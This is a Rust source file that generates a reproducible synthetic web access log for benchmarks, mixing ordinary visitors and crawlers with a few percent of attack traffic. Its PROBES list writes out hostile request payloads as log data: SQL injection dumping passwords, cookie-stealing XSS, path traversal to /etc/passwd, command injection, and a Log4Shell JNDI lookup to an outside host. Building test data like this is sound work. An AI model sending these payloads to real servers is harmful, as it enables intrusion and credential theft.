//! An access log that is made: visitors who look around, crawlers and feed readers that behave, and a few percent of
//! attacks. The same seed makes the same bytes.
use std::io::{self, Write};
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

use jiff::{SignedDuration, Timestamp};

/// When the log begins.
const START: Timestamp = Timestamp::constant(1_790_000_000, 0);
/// Milliseconds between two lines on average.
const PAUSE_MS: u64 = 20;
/// Visitors at once.
const VISITORS: usize = 2_000;
/// Of a thousand lines, those of attackers.
const ATTACKS: u64 = 30;
/// Of a thousand lines, those of crawlers and feed readers.
const CRAWLERS: u64 = 120;

const AGENTS: [&str; 8] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:131.0) Gecko/20100101 Firefox/131.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:131.0) Gecko/20100101 Firefox/131.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36 Edg/129.0.0.0",
    "Mozilla/5.0 (iPad; CPU OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/129.0 Mobile/15E148 Safari/604.1",
];

const BOTS: [&str; 4] = [
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Feedly/1.0 (+http://www.feedly.com/fetcher.html; like FeedFetcher-Google)",
    "Tiny Tiny RSS/24.10 (https://tt-rss.org/)",
];

const TOPICS: [&str; 10] =
    ["weather", "garden", "music", "travel", "kitchen", "cycling", "history", "software", "photography", "letters"];

/// What attackers ask for: a request line's method and target, and the answer's status.
const PROBES: [(&str, &str, u16); 20] = [
    ("GET", "/index.php?id=1%27%20UNION%20SELECT%201,username,password%20FROM%20users--%20-", 200),
    ("GET", "/product?id=1%20AND%20SLEEP(5)", 500),
    ("GET", "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", 200),
    ("GET", "/download?file=../../../../etc/passwd", 404),
    ("GET", "/static/..%252f..%252f..%252fetc/passwd", 400),
    ("GET", "/.env", 404),
    ("GET", "/.git/config", 404),
    ("GET", "/wp-login.php", 404),
    ("POST", "/wp-login.php", 401),
    ("POST", "/login", 401),
    ("GET", "/phpmyadmin/index.php", 404),
    ("GET", "/?x=${jndi:ldap://198.51.100.66:1389/a}", 200),
    ("GET", "/cgi-bin/test.cgi?cmd=;id", 404),
    ("GET", "/shell.php?cmd=whoami", 404),
    ("GET", "/?page=php://filter/convert.base64-encode/resource=index", 200),
    ("GET", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404),
    ("GET", "/?name={{7*7}}", 200),
    ("GET", "/actuator/env", 404),
    ("GET", "/owa/auth/logon.aspx", 404),
    ("CONNECT", "198.51.100.66:443", 400),
];

const SCANNERS: [&str; 4] =
    ["sqlmap/1.8.4#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.5.0)", "gobuster/3.6", "Mozilla/5.0 zgrab/0.x"];

/// One who looks around.
#[derive(Clone, Copy, Debug)]
struct Visitor {
    address: IpAddr,
    agent: usize,
    pages_left: u64,
    topic: usize,
    page: u64,
    assets_left: u64,
}

/// Writes lines.
#[derive(Debug)]
pub struct Traffic {
    state: u64,
    now_ms: i64,
    visitors: Vec<Visitor>,
    made: u64,
}

impl Traffic {
    /// All that the seed leads to.
    pub fn new(seed: u64) -> Self {
        let mut traffic = Self { state: seed, now_ms: 0, visitors: Vec::new(), made: 0 };
        for _ in 0..VISITORS {
            let visitor = traffic.visitor();
            traffic.visitors.push(visitor);
        }
        traffic
    }

    /// A number below `below`.
    fn number(&mut self, below: u64) -> u64 {
        self.state = self.state.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.state;
        z = (z ^ z >> 30).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ z >> 27).wrapping_mul(0x94d0_49bb_1331_11eb);
        (z ^ z >> 31) % below.max(1)
    }

    fn pick(&mut self, of: usize) -> usize {
        usize::try_from(self.number(u64::try_from(of).unwrap_or(1))).unwrap_or(0)
    }

    fn address(&mut self) -> IpAddr {
        let bits = self.number(1 << 18);
        if self.number(5) == 0 {
            return IpAddr::V6(Ipv6Addr::from(0x2001_0db8_u128 << 96 | u128::from(bits) << 64 | 1));
        }
        // The space for benchmarks: no documentation range has room for so many.
        IpAddr::V4(Ipv4Addr::from(0xc612_0000 | u32::try_from(bits & 0x1_ffff).unwrap_or(0)))
    }

    fn visitor(&mut self) -> Visitor {
        Visitor {
            address: self.address(),
            agent: self.pick(AGENTS.len()),
            pages_left: 1 + self.number(12),
            topic: self.pick(TOPICS.len()),
            page: self.number(400),
            assets_left: 0,
        }
    }

    /// Writes lines until so many bytes are written; how many lines it were.
    ///
    /// # Errors
    /// The writer's.
    pub fn write(&mut self, bytes: u64, into: &mut impl Write) -> io::Result<u64> {
        let (mut written, mut lines) = (0, 0);
        let mut line = String::with_capacity(512);
        while written < bytes {
            line.clear();
            self.line(&mut line);
            into.write_all(line.as_bytes())?;
            written += line.len() as u64;
            lines += 1;
        }
        Ok(lines)
    }

    fn line(&mut self, into: &mut String) {
        let pause = self.number(2 * PAUSE_MS + 1);
        self.now_ms = self.now_ms.saturating_add(i64::try_from(pause).unwrap_or(0));
        self.made += 1;
        match self.number(1_000) {
            part if part < ATTACKS => self.attack(into),
            part if part < ATTACKS + CRAWLERS => self.crawl(into),
            _ => self.visit(into),
        }
    }

    fn visit(&mut self, into: &mut String) {
        let at = self.pick(VISITORS);
        let fresh = self.visitor();
        let Some(visitor) = self.visitors.get_mut(at) else { return };
        if visitor.pages_left == 0 {
            *visitor = fresh;
        }
        let (agent, topic) = (AGENTS[visitor.agent], TOPICS[visitor.topic]);
        let page = format!("/{topic}/{}.html", visitor.page);
        if visitor.assets_left > 0 {
            visitor.assets_left -= 1;
            let (address, number) = (visitor.address, visitor.assets_left);
            let (target, bytes) = match number % 3 {
                0 => ("/assets/site.3f2a9c.css".to_owned(), 14_212),
                1 => ("/assets/app.81bd04.js".to_owned(), 93_400),
                _ => (format!("/images/{topic}/{}.webp", visitor.page * 7 + number), 48_190 + number * 311),
            };
            let status = if self.number(4) == 0 { 304 } else { 200 };
            let referer = format!("https://www.example.org{page}");
            self.put(into, address, "-", "GET", &target, status, bytes, &referer, agent);
            return;
        }
        visitor.assets_left = 6;
        visitor.pages_left -= 1;
        let address = visitor.address;
        let before = visitor.page;
        visitor.page = fresh.page;
        let target = match before % 9 {
            0 => format!("/search?q={topic}+in+autumn&page={}", before % 5 + 1),
            1 => format!("/{topic}/?sort=newest&from={before}"),
            _ => page,
        };
        let status = match self.number(100) {
            0 => 404,
            1 => 301,
            _ => 200,
        };
        let referer = if self.number(3) == 0 { "https://www.google.com/".to_owned() } else { "-".to_owned() };
        let bytes = 9_000 + self.number(30_000);
        self.put(into, address, "-", "GET", &target, status, bytes, &referer, agent);
    }

    fn crawl(&mut self, into: &mut String) {
        let bot = self.pick(BOTS.len());
        let address = IpAddr::V4(Ipv4Addr::new(192, 0, 2, 10 + u8::try_from(bot).unwrap_or(0)));
        let topic = TOPICS[self.pick(TOPICS.len())];
        let target = if bot < 2 { format!("/{topic}/{}.html", self.number(400)) } else { format!("/{topic}/feed.xml") };
        let status = if self.number(3) == 0 { 304 } else { 200 };
        let bytes = 9_000 + self.number(30_000);
        self.put(into, address, "-", "GET", &target, status, bytes, "-", BOTS[bot]);
    }

    fn attack(&mut self, into: &mut String) {
        // A few attackers at a time, others each ten minutes.
        let shift = u8::try_from(self.now_ms / 600_000 % 24).unwrap_or(0);
        let host = u8::try_from(self.number(8)).unwrap_or(0);
        let address = IpAddr::V4(Ipv4Addr::new(203, 0, 113, shift * 8 + host));
        let (method, target, status) = PROBES[self.pick(PROBES.len())];
        let agent = if host < 4 { SCANNERS[usize::from(host)] } else { AGENTS[usize::from(host)] };
        let user = if target == "/login" { "admin" } else { "-" };
        let bytes = 150 + self.number(400);
        if self.number(2) == 0 {
            let unknown = format!("/backup/{:x}.zip", self.number(1 << 24));
            self.put(into, address, "-", "GET", &unknown, 404, bytes, "-", agent);
        } else {
            self.put(into, address, user, method, target, status, bytes, "-", agent);
        }
    }

    #[expect(clippy::too_many_arguments, reason = "each is a field of the format")]
    fn put(
        &self,
        into: &mut String,
        address: IpAddr,
        user: &str,
        method: &str,
        target: &str,
        status: u16,
        bytes: u64,
        referer: &str,
        agent: &str,
    ) {
        use std::fmt::Write as _;
        let time = START.checked_add(SignedDuration::from_millis(self.now_ms)).unwrap_or(START);
        let time = time.strftime("%d/%b/%Y:%H:%M:%S +0000");
        let line = writeln!(
            into,
            "{address} - {user} [{time}] \"{method} {target} HTTP/1.1\" {status} {bytes} \"{referer}\" \"{agent}\""
        );
        debug_assert!(line.is_ok(), "a string takes what it is given");
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn made(seed: u64) -> String {
        let mut bytes = Vec::new();
        Traffic::new(seed).write(1 << 20, &mut bytes).unwrap();
        String::from_utf8(bytes).unwrap()
    }

    #[test]
    fn the_same_seed_makes_the_same_log() {
        assert_eq!(made(1), made(1));
        assert_ne!(made(1), made(2));
    }

    #[test]
    fn most_of_it_are_visitors_and_a_few_percent_attacks() {
        let text = made(1);
        let lines: Vec<&str> = text.lines().collect();
        let attacks = lines.iter().filter(|line| line.starts_with("203.0.113.")).count();
        let permille = attacks * 1_000 / lines.len();
        assert!((20..40).contains(&permille), "{permille}");
        assert!(lines.iter().any(|line| line.contains("UNION")) && lines.iter().any(|line| line.contains("feed.xml")));
        let average = text.len() / lines.len();
        assert!((150..300).contains(&average), "{average}");
    }
}
